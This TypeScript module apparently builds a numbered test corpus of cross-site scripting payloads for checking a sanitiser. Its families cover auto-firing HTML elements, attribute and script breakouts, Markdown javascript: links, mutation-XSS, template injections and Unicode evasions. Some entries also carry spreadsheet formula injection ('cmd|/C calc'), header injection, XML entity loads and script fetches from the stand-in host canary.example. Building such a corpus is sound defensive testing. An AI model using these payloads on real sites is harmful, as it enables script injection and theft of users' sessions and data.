// Texts that try to become script wherever they are shown: the well-known families, each of which calls for help under a number of its own.

/** Nobody answers there: whoever asks it was told to by a payload. */
export const CANARY = 'canary.example';

export interface Payload {
  number: number;
  text: string;
  /** Leaves something open that would hide what comes after it. */
  isOpen: boolean;
}

type Family = (call: string, number: number) => string[];

/** What is put into the page's own markup: elements that run by themselves. */
const elements: Family = (call, n) => [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT >`,
  `<script/x>${call}</script/x>`,
  `<script src="//${CANARY}/${n}"></script>`,
  `<script type=module>import("//${CANARY}/${n}")</script>`,
  `<script type="text/javascript">//<![CDATA[\n${call}//]]></script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<IMG SRC=x oNeRrOr=${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x onerror\n=\n${call}>`,
  `<img src="x:x" onerror="&#97;lert(${n})">`,
  `<img srcset=x onerror=${call}>`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="//${CANARY}/${n}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text x=9 y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import "//${CANARY}/${n}";</style></svg>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<video src=x onerror=${call}></video>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<button autofocus onfocus=${call}>x</button>`,
  `<a href=# autofocus onfocus=${call}>x</a>`,
  `<div tabindex=1 autofocus onfocus=${call}>x</div>`,
  `<div contenteditable autofocus onfocus=${call}>x</div>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<marquee loop=1 width=0 onfinish=${call}>x</marquee>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="//${CANARY}/${n}"></iframe>`,
  `<iframe onload=${call}></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<object onerror=${call} data=x></object>`,
  `<embed src="javascript:${call}">`,
  `<embed src="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`)}">`,
  `<link rel=stylesheet href="//${CANARY}/${n}">`,
  `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<link rel=prefetch href="//${CANARY}/${n}">`,
  `<style>@import "//${CANARY}/${n}";</style>`,
  `<style>*{background:url(//${CANARY}/${n})}</style>`,
  `<style onload=${call}></style>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call}"></b>`,
  `<b style="transition:1ms" ontransitionend=${call} autofocus tabindex=1>x</b>`,
  `<xss style="display:block;content-visibility:auto" oncontentvisibilityautostatechange=${call}>x</xss>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=//${CANARY}/${n}">`,
  `<base href="//${CANARY}/${n}/">`,
  `<form action="javascript:${call}"><input type=submit autofocus></form>`,
  `<form><button formaction="javascript:${call}">x</button></form>`,
  `<isindex type=image src=1 onerror=${call}>`,
  `<math href="javascript:${call}">x</math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${call}">x</maction></math>`,
  `<table background="javascript:${call}"></table>`,
  `<applet onerror=${call}></applet>`,
  `<frameset onload=${call}></frameset>`,
  `<dialog open onbeforetoggle=${call}>x</dialog>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<div><template shadowrootmode="open"><script>${call}</script></template></div>`,
  `<portal src="javascript:${call}"></portal>`,
  `<x-y onclick=${call} style=position:fixed;inset:0>x</x-y>`,
  `<a href="javascript:${call}">x</a>`,
  `<a href=" &#14; javascript:${call}">x</a>`,
  `<a href="java&Tab;script:${call}">x</a>`,
  `<a href="data:text/html;base64,${btoa(`<script>${call}</script>`)}">x</a>`,
  `<a ping="//${CANARY}/${n}" href=#>x</a>`,
  `<div style="background:url('//${CANARY}/${n}')">x</div>`,
  `<div style="width:expression(${call})">x</div>`,
  `<astro-island component-url="data:text/javascript,${call}" client="load" ssr></astro-island>`,
];

/** What ends the place that it stands in: an attribute, an element, a script, a comment. */
const breakouts: Family = (call, n) => [
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `\`><script>${call}</script>`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `"/><svg/onload=${call}>`,
  `'/><svg/onload=${call}>`,
  `" onerror="${call}`,
  `' onerror='${call}`,
  `" onfocus="${call}" autofocus="`,
  `' onfocus='${call}' autofocus='`,
  ` onfocus=${call} autofocus `,
  `" onmouseover="${call}`,
  `x" onload="${call}" y="`,
  `" style="animation-name:x" onanimationstart="${call}`,
  `" src="//${CANARY}/${n}`,
  `" href="javascript:${call}`,
  `" formaction="javascript:${call}`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</SCRIPT\t><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `</template><script>${call}</script>`,
  `</select><script>${call}</script>`,
  `</option></select><img src=x onerror=${call}>`,
  `</svg><script>${call}</script>`,
  `</iframe><script>${call}</script>`,
  `</xmp><script>${call}</script>`,
  `</a></li></ul><script>${call}</script>`,
  `--><script>${call}</script>`,
  `--!><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `?><script>${call}</script>`,
  `%><script>${call}</script>`,
  `";${call};//`,
  `';${call};//`,
  `\\";${call};//`,
  `\\';${call};//`,
  `\${${call}}`,
  `\`+${call}+\``,
  `'-${call}-'`,
  `"-${call}-"`,
  `"}];${call};[{"`,
  `*/${call};/*`,
  `\u2028${call}\u2029`,
  `"}</script><script>${call}</script>`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${call}`,
  `\\x3c/script\\x3e\\x3cscript\\x3e${call}`,
  `{"@type":"Thing","name":"</script><script>${call}</script>"}`,
];

/** What Markdown would make a link, a picture or an element of. */
const markdown: Family = (call, n) => [
  `[x](javascript:${call})`,
  `[x](JaVaScRiPt:${call})`,
  `[x](javascript&colon;${call})`,
  `[x](javascript&#58;${call})`,
  `[x](&#106;avascript:${call})`,
  `[x](&#x6A;avascript:${call})`,
  `[x](&#0000106avascript:${call})`,
  `[x](java&Tab;script:${call})`,
  `[x](java&NewLine;script:${call})`,
  `[x](&#1;javascript:${call})`,
  `[x](&#32;javascript:${call})`,
  `[x](<javascript:${call}>)`,
  `[x](<java\\script:${call}>)`,
  `[x](javascript://%0a${call})`,
  `[x](javascript:%61lert${n})`,
  `[x](\\javascript:${call})`,
  `[x](vbscript:msgbox${n})`,
  `[x](data:text/html;base64,${btoa(`<script>${call}</script>`)})`,
  `[x](data:text/html,%3Cscript%3E${call}%3C/script%3E)`,
  `[x](blob:${call})`,
  `[x](view-source:javascript:${call})`,
  `[x](feed:javascript:${call})`,
  `[x](jar:javascript:${call}!/)`,
  `[x](x "onmouseover=${call} ")`,
  `[x](x 'y" onmouseover="${call}')`,
  `[x](http://x" onmouseover="${call})`,
  `[x](<http://x" onfocus="${call}" autofocus="">)`,
  `![x](javascript:${call})`,
  `![x](x"onerror="${call})`,
  `![x" onerror="${call}](/files/x/x.png)`,
  `![x](/files/x/x.png "t" onerror="${call}")`,
  `![x](//${CANARY}/${n}.png)`,
  `![x](https://${CANARY}/${n}.png)`,
  `![x](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`)})`,
  `![x][p${n}]\n\n[p${n}]: https://${CANARY}/${n}.png`,
  `[x][r${n}]\n\n[r${n}]: javascript:${call}`,
  `[j${n}]: javascript:${call}\n\n[j${n}]`,
  `<javascript:${call}>`,
  `<data:text/html,${call}>`,
  `<javascript&colon;${call}>`,
  `www.x.example"onmouseover="${call}`,
  `http://x.example/"><img/src=x/onerror=${call}>`,
  `x@x.example"onmouseover="${call}`,
  `\`<script>${call}</script>\``,
  `\`\`\`"><script>${call}</script>\nx\n\`\`\``,
  `\`\`\`js" onmouseover="${call}\nx\n\`\`\``,
  `| a |\n| --- |\n| <img src=x onerror=${call}> |`,
  `# <img src=x onerror=${call}>`,
  `> <script>${call}</script>`,
  `- <svg onload=${call}>`,
  `~~<svg onload=${call}>~~`,
  `**<img src=x onerror=${call}>**`,
  `[^${n}]: <script>${call}</script>\n\n[^${n}]`,
  `\\<script>${call}\\</script>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${call}&#x3e;`,
];

/** What a second reading of the same markup makes of it. */
const mutations: Family = (call) => [
  `<math><mtext><table><mglyph><style><math href="</style><img src=x onerror=${call}>"></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>"></a></svg>`,
  `<svg><p><style><g title="</style><img src=x onerror=${call}>"></g></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>"></form>`,
  `<svg><desc><style><a title="</style><img src=x onerror=${call}>"></style></desc></svg>`,
  `<select><template><style><!--</style><img src=x onerror=${call}>--></style></template></select>`,
  `<option><style></option></select><b><img src=x onerror=${call}></style></option>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${call}>"></p></foreignobject></svg>`,
  `<table><td><caption><svg><script>${call}</script></svg></caption></td></table>`,
  `<div id="x\`\`onerror=${call}">x</div>`,
  `<p style="font-family:'a&#39;;x:expression(${call})'">x</p>`,
];

/** What programs that fill templates, tables and calendars would run. */
const templates: Family = (call, n) => [
  `{{constructor.constructor('${call}')()}}`,
  `{{$on.constructor('${call}')()}}`,
  `{{=${call}}}`,
  `{%raw%}<script>${call}</script>{%endraw%}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `{${call}}`,
  `[[${call}]]`,
  `<x v-html="'<img src=x onerror=${call}>'">x</x>`,
  `<x ng-app ng-csp>{{$eval.constructor('${call}')()}}</x>`,
  `<x x-data x-init="${call}">x</x>`,
  `<x hx-on:load="${call}" hx-get="//${CANARY}/${n}" hx-trigger="load">x</x>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  `{"type":"script","props":{"children":"${call}"}}`,
  `[0,{"__html":[0,"<img src=x onerror=${call}>"]}]`,
  `__proto__[onload]=${call}`,
  `=HYPERLINK("javascript:${call}","x")`,
  `=cmd|'/C calc'!A${n}`,
  `@SUM(1+1)*cmd|'/C calc'!A${n}`,
  `+1+${call}`,
  `-1+${call}`,
  `"\r\nX-Injected: ${call}\r\n\r\n<script>${call}</script>`,
  `x\nEND:VEVENT\nBEGIN:VEVENT\nURL:javascript:${call}`,
  `x;ALTREP="javascript:${call}":y`,
  `]]></description><script>${call}</script>`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
  `<!ENTITY x SYSTEM "//${CANARY}/${n}">&x;`,
];

/** Letters that become others, or that hide where a text goes on. */
const letters: Family = (call) => [
  `＜script＞${call}＜/script＞`,
  `\ufe64script\ufe65${call}\ufe64/script\ufe65`,
  `‹script›${call}‹/script›`,
  `<ſcript>${call}</ſcript>`,
  `<ımg src=x onerror=${call}>`,
  `<\u0130mg src=x onerror=${call}>`,
  `\u202e<script>${call}</script>\u202c`,
  `<\u200bscript>${call}</script>`,
  `<scr\u00adipt>${call}</script>`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `%253Cscript%253E${call}%253C/script%253E`,
  `\\u{3c}img src=x onerror=${call}\\u{3e}`,
  `<img src=x onerror=\uff41lert(1)//${call}>`,
  `\ufeff<script>${call}</script>`,
  `<img\u000csrc=x\u000conerror=${call}>`,
  `<img\u3000src=x onerror=${call}>`,
];

/** What is left open: of several in one text they come last. */
const open: Family = (call) => [
  `<img src=x onerror=${call} `,
  `<img src="x" onerror="${call}" alt="`,
  `<svg><style>{font-family:'<iframe/onload=${call}>'`,
  `<!--><img src=x onerror=${call}>`,
  `<!--[if gte IE 4]><script>${call}</script>`,
  `<![CDATA[<script>${call}</script>`,
  `<style><img src="</style><img src=x onerror=${call}//">`,
  `<title><a title="</title><img src=x onerror=${call}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>`,
  `<xmp><p title="</xmp><svg/onload=${call}>`,
  `<noembed><noembed title="</noembed><img src=x onerror=${call}>`,
  `<plaintext/onload=${call}>`,
];

const FAMILIES: readonly { family: Family; isOpen: boolean }[] = [
  ...[elements, breakouts, markdown, mutations, templates, letters].map((family) => ({ family, isOpen: false })),
  { family: open, isOpen: true },
];

const ofNumber = ({ family }: { family: Family }, at: number, number: number): string =>
  family(`alert(${number})`, number)[at] as string;

/** Every one of them, each with a number of its own. */
export const PAYLOADS: readonly Payload[] = FAMILIES.flatMap((of) => of.family('', 0).map((_, at) => ({ of, at }))).map(
  ({ of, at }, index) => {
    const number = 10_001 + index;
    return { number, text: ofNumber(of, at, number), isOpen: of.isOpen };
  },
);

/** A few of each family, for the short run. */
export const A_DOZEN: readonly Payload[] = FAMILIES.flatMap(({ family }) => {
  const texts = family('', 0).length;
  const first = PAYLOADS.findIndex(({ number, text }) => family(`alert(${number})`, number)[0] === text);
  return [first, first + Math.floor(texts / 2)].map((at) => PAYLOADS[at] as Payload);
});

/** In groups whose texts together are at most so many characters, in their order; those that are longer are left out. */
export function pack(payloads: readonly Payload[], most: number, between: string): Payload[][] {
  const groups: Payload[][] = [];
  let room = 0;
  for (const payload of payloads) {
    const { length } = payload.text;
    if (length > most) continue;
    if (groups.length > 0 && length + between.length <= room) {
      groups.at(-1)?.push(payload);
      room -= length + between.length;
    } else {
      groups.push([payload]);
      room = most - length;
    }
  }
  return groups;
}
